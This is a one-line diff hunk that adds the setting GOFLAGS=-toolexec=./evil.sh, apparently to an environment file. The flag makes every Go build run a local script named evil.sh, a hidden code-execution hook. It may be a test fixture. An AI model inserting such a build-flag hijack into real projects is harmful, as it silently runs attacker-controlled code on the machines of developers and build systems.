@@ -1,0 +1,1 @@
+GOFLAGS=-toolexec=./evil.sh
